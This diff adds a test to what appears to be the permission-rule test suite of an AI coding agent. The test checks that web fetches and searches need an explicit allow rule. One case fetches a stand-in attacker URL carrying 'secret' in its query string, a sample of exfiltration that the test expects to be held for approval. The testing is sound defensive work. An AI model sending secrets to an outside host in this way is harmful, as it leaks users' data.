@@ -65,6 +65,13 @@ describe("modes (contracts §3.3)", () => {
   const write = q("Write", { file_path: "src/new.ts", content: "x" });
   const cases: [PermissionMode, string][] = [["default", "ask"], ["acceptEdits", "allow"], ["plan", "deny"], ["bypassPermissions", "allow"], ["dontAsk", "deny"], ["auto", "ask"]];
   for (const [mode, want] of cases) test(`${mode}: Write in cwd → ${want}`, () => expect(ev({}, { mode }).decide(write).behavior).toBe(want as "ask"));
+  test("WebFetch and WebSearch need a rule: a fetch can carry data out, so read-only is not enough", () => {
+    const e = ev({ allow: ["WebFetch(domain:docs.example.com)"] });
+    expect(e.decide(q("WebFetch", { url: "https://docs.example.com/a", prompt: "p" }, { readOnly: true })).behavior).toBe("allow");
+    expect(e.decide(q("WebFetch", { url: "https://evil.example.net/?d=secret", prompt: "p" }, { readOnly: true })).behavior).toBe("ask");
+    expect(e.decide(q("WebSearch", { query: "x" }, { readOnly: true })).behavior).toBe("ask");
+    expect(ev({ allow: ["WebSearch"] }).decide(q("WebSearch", { query: "x" }, { readOnly: true })).behavior).toBe("allow");
+  });
   test("plan: no allow rule, auto-memory dir or hook allow lets an editing tool through", () => {
     const e = ev({ allow: ["Edit", "Write", "Edit(/src/**)"] }, { mode: "plan", autoAllowWriteDirs: [join(t.cwd, "src")] });
     for (const tool of ["Edit", "Write", "MultiEdit", "NotebookEdit"])
